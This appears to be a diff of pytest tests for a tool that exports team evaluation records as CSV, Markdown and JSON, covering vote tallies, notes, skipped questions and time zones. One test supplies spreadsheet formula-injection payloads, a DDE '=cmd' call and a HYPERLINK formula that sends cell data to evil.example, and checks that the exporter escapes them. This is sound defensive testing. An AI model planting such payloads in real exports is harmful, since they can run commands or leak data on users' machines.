@@ -5,13 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import json
-from datetime import UTC, datetime
+from datetime import UTC, datetime, timedelta
+from zoneinfo import ZoneInfo
 
 import pytest
 
 from conversations import flow
 from conversations.export import decision_record
-from conversations.models import Card, Evaluation, SuggestionRef
+from conversations.models import AnswerEntry, Ballot, Card, Evaluation, SuggestionRef, Vote
 from scoring.checklist import Registry
 
 FT = Registry().get()
@@ -45,3 +46,144 @@ def test_markdown_is_a_decision_log_and_bad_formats_are_named() -> None:
     assert md.startswith("# Decision log: Router") and "| q1 |" in md and "2,000 labeled tickets" in md
     with pytest.raises(ValueError, match="`pdf` is not an export format"):
         decision_record(evaluation(), FT, "pdf")
+
+
+AT = datetime(2030, 1, 7, 9, tzinfo=UTC)
+
+
+def completed(**fields: object) -> Evaluation:
+    """Every question answered Yes by U1; ``fields`` override the evaluation's (status, mode, …)."""
+    ev = Evaluation(team="T1", channel="C1", project="Router", project_key="router", checklist=FT.id,
+                    started_by="U1", started_at=AT, status="completed", completed_at=AT + timedelta(hours=1))
+    ev.answers = {q.id: AnswerEntry(question=q.id, value=1.0, by="U1", at=AT + timedelta(minutes=i))
+                  for i, q in enumerate(FT.questions)}
+    return ev.model_copy(update=fields)
+
+
+def csv_rows(text: str) -> dict[str, dict[str, str]]:
+    return {row["question"]: row for row in csv.DictReader(io.StringIO(text))}
+
+
+def md_row(md: str, key: str) -> str:
+    return next(line for line in md.splitlines() if line.startswith(f"| {key} |"))
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised() -> None:
+    ev = completed(project="=cmd|' /C calc'!A0")
+    q1, q2 = ev.answers[FT.question("q1").id], ev.answers[FT.question("q2").id]
+    q1.note, q1.note_by = '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "U7"
+    q2.suggestion = SuggestionRef(value=1, reason="-2+3", evidence="@SUM(1+1)*cmd")
+    names = {"U1": "+Ana (U1)", "U7": "\tTab (U7)"}
+    rows = csv_rows(decision_record(ev, FT, "csv", names))
+    assert rows["q1"]["note"] == "'" + q1.note and rows["q1"]["by"] == "'+Ana (U1)"
+    assert (rows["q1"]["note_by"], rows["q2"]["suggestion_quote"], rows["q2"]["suggestion_reason"]) == (
+        "'\tTab (U7)", "'@SUM(1+1)*cmd", "'-2+3")
+    assert rows["project"]["text"] == "'=cmd|' /C calc'!A0" and rows["started_by"]["text"] == "'+Ana (U1)"
+    assert (rows["q1"]["answer"], rows["total"]["text"], rows["q1"]["skips"]) == ("1.0", "20/20", "0")  # ours as is
+    data = json.loads(decision_record(ev, FT, "json", names))  # only the CSV is read by spreadsheets
+    assert data["answers"][0]["note"] == q1.note and data["project"] == ev.project
+
+
+def test_csv_names_the_project_and_the_evaluation() -> None:
+    ev = completed(started_by="U2", previous_id="abc123")
+    rows = csv_rows(decision_record(ev, FT, "csv", {"U2": "Bo (U2)"}, "https://x/thread"))
+    facts = {key: rows[key]["text"] for key in ("project", "evaluation", "checklist", "channel", "thread", "status",
+                                                "started_by", "started_at", "completed_at", "previous_evaluation")}
+    assert facts == {"project": "Router", "evaluation": ev.id, "checklist": FT.id, "channel": "C1",
+                     "thread": "https://x/thread", "status": "completed", "started_by": "Bo (U2)",
+                     "started_at": "2030-01-07T09:00:00+00:00", "completed_at": "2030-01-07T10:00:00+00:00",
+                     "previous_evaluation": "abc123"}
+    assert list(rows)[:20] == [q.key for q in FT.questions]  # the questions still come first
+
+
+def test_markdown_says_an_abandoned_evaluation_was_closed_for_inactivity() -> None:
+    ev = completed(status="abandoned", completed_at=AT + timedelta(days=3))
+    md = decision_record(ev, FT, "md")
+    assert f"- **Evaluation:** `{ev.id}` (closed for inactivity) in channel C1" in md
+    assert "- **Closed for inactivity:** 2030-01-10 09:00 UTC" in md
+    assert "in progress" not in md and "**Completed:**" not in md
+    running = decision_record(completed(status="in_progress", completed_at=None), FT, "md")
+    assert "(in progress)" in running and "- **Completed:** not yet" in running
+
+
+def voted() -> Evaluation:
+    """A team vote: q1 unanimous (revealed at quorum), q2 split and settled by U1, q3's votes still hidden."""
+    ev = completed(mode="vote", quorum=3)
+    q1, q2, q3 = (FT.question(k).id for k in ("q1", "q2", "q3"))
+    ballots: dict[str, dict[str, float | None]] = {
+        q1: {"U2": 1.0, "U3": 1.0, "U4": 1.0}, q2: {"U2": 1.0, "U3": 0.0, "U4": None}, q3: {"U8": 0.0}}
+    ev.ballots = {qid: Ballot(revealed=qid != q3, votes={u: Vote(value=v, at=AT + timedelta(seconds=i))
+                                                          for i, (u, v) in enumerate(votes.items())})
+                  for qid, votes in ballots.items()}
+    ev.answers[q1].by = "U4"  # what a quorum reveal records: the last voter
+    ev.answers[q2] = ev.answers[q2].model_copy(update={"value": 0.5, "by": "U1", "settled_by": "U1"})
+    del ev.answers[q3]  # still being voted on
+    return ev
+
+
+NAMES = {"U1": "Ana (U1)", "U2": "Bo (U2)", "U3": "Cy (U3)", "U4": "Di (U4)", "U7": "Nora (U7)", "U8": "Hal (U8)"}
+
+
+def test_a_team_vote_keeps_who_voted_what_and_never_the_hidden_votes() -> None:
+    ev = voted()
+    data = json.loads(decision_record(ev, FT, "json", NAMES))
+    q1, q2, q3 = data["answers"][:3]
+    assert (q1["votes"], q1["revealed_by"], q1["settled_by"]) == (
+        {"Bo (U2)": "Yes", "Cy (U3)": "Yes", "Di (U4)": "Yes"}, "quorum", None)
+    assert (q2["votes"], q2["settled_by"]) == ({"Bo (U2)": "Yes", "Cy (U3)": "No", "Di (U4)": "Not sure"}, "Ana (U1)")
+    assert q3["votes"] is None and q3["revealed_by"] is None
+    assert data["scorecard"]["agreement"]["voters"] == ["Bo (U2)", "Cy (U3)", "Di (U4)"]
+    md = decision_record(ev, FT, "md", NAMES)
+    assert "| team vote: Bo (U2) Yes, Cy (U3) Yes, Di (U4) Yes; revealed at quorum |" in md_row(md, "q1")
+    assert "team vote: Bo (U2) Yes, Cy (U3) No, Di (U4) Not sure; revealed at quorum; settled by Ana (U1)" \
+        in md_row(md, "q2")
+    rows = csv_rows(decision_record(ev, FT, "csv", NAMES))
+    assert rows["q1"]["votes"] == "Bo (U2): Yes; Cy (U3): Yes; Di (U4): Yes" and rows["q3"]["votes"] == ""
+    for fmt in ("md", "csv", "json"):
+        assert "U8" not in decision_record(ev, FT, fmt, NAMES), fmt  # the hidden vote's voter
+
+
+def test_a_vote_revealed_by_hand_and_an_answer_changed_after_it_say_so() -> None:
+    ev = voted()
+    q1 = FT.question("q1").id
+    ev.ballots[q1].revealed_by = "U2"
+    ev.answers[q1] = ev.answers[q1].model_copy(update={"by": "U3", "value": 0.0, "previous": 1.0})
+    row = md_row(decision_record(ev, FT, "md", NAMES), "q1")
+    assert "Di (U4) Yes; revealed by Bo (U2); changed by Cy (U3) |" in row
+    assert json.loads(decision_record(ev, FT, "json", NAMES))["answers"][0]["revealed_by"] == "Bo (U2)"
+
+
+def test_every_format_keeps_who_wrote_the_note() -> None:
+    ev = completed()
+    entry = ev.answers[FT.question("q1").id]
+    entry.note, entry.note_by = "Only 300 are labeled so far", "U7"
+    assert json.loads(decision_record(ev, FT, "json", NAMES))["answers"][0]["note_by"] == "Nora (U7)"
+    assert csv_rows(decision_record(ev, FT, "csv", NAMES))["q1"]["note_by"] == "Nora (U7)"
+    row = md_row(decision_record(ev, FT, "md", NAMES), "q1")
+    assert "| Ana (U1) |" in row and "| Only 300 are labeled so far — Nora (U7) |" in row
+
+
+def test_a_skipped_question_reads_not_sure_and_a_question_never_asked_stays_blank() -> None:
+    ev = completed(status="in_progress", completed_at=None)
+    q5, q6 = FT.question("q5").id, FT.question("q6").id
+    ev.answers[q5] = ev.answers[q5].model_copy(update={"value": None, "by": "U3", "skips": 2})
+    del ev.answers[q6]
+    md = decision_record(ev, FT, "md", NAMES)
+    assert "| Not sure (skipped twice) | Cy (U3) |" in md_row(md, "q5") and "| — |  |" in md_row(md, "q6")
+    answers = json.loads(decision_record(ev, FT, "json", NAMES))["answers"]
+    assert [(a["answer"], a["answer_label"], a["skips"], a["by"]) for a in answers[4:6]] == [
+        (None, "Not sure", 2, "Cy (U3)"), (None, None, 0, None)]
+    rows = csv_rows(decision_record(ev, FT, "csv", NAMES))
+    assert (rows["q5"]["answer_label"], rows["q5"]["skips"], rows["q6"]["answer_label"]) == ("Not sure", "2", "")
+
+
+def test_markdown_times_are_in_the_teams_zone_and_json_csv_keep_utc() -> None:
+    ev = completed()
+    berlin = ZoneInfo("Europe/Berlin")
+    md = decision_record(ev, FT, "md", NAMES, tz=berlin)
+    assert "- **Started:** 2030-01-07 10:00 CET (2030-01-07T10:00:00+01:00) by Ana (U1)" in md
+    assert "- **Completed:** 2030-01-07 11:00 CET (2030-01-07T11:00:00+01:00)" in md
+    assert "| Ana (U1) | 2030-01-07 10:00 CET |" in md_row(md, "q1") and "+00:00" not in md
+    assert "| 2030-01-07 09:00 UTC |" in md_row(decision_record(ev, FT, "md", NAMES), "q1")  # the default
+    assert json.loads(decision_record(ev, FT, "json", tz=berlin))["started_at"] == "2030-01-07T09:00:00+00:00"
+    assert csv_rows(decision_record(ev, FT, "csv", tz=berlin))["q1"]["at"] == "2030-01-07T09:00:00+00:00"
